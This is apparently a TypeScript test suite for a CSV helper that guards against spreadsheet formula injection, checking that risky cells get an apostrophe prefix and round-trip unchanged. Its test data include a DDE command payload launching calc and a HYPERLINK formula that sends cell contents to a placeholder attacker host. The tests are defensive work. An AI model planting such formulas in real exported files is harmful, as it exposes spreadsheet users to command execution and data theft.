import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutraliseFormula, restoreFormula } from './csv-text.ts';

describe('a text that a spreadsheet would evaluate as a formula', () => {
  test.each([
    '=1+1',
    '+33 1 42 68 53 00',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    ' =1',
    '"=1',
    "'=1",
    "''-1",
    "'\t",
    '\u00A0=1',
    '\u200B+1',
    '\uFEFF@x',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '﹣1',
    '−1',
    '“=1',
    '=cmd|’ /C calc’!A0',
    '=HYPERLINK("https://evil.example?"&A1)',
  ])('the text %j gets an apostrophe in front, and an import removes the apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
    'the text %j is not a formula and is not changed',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
      expect(restoreFormula(text)).toBe(text);
    },
  );

  test('any text is the same after an export and an import, and no exported text begins with a character that starts a formula', () => {
    const character = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      "'",
      '"',
      ' ',
      '\t',
      '\r',
      '\n',
      '\u200B',
      'a',
      '1',
      'é',
    );
    const text = fc.oneof(fc.string({ unit: character, maxLength: 6 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(
        text,
        (each) =>
          restoreFormula(neutraliseFormula(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutraliseFormula(each)),
      ),
      { numRuns: 5000 },
    );
  });
});
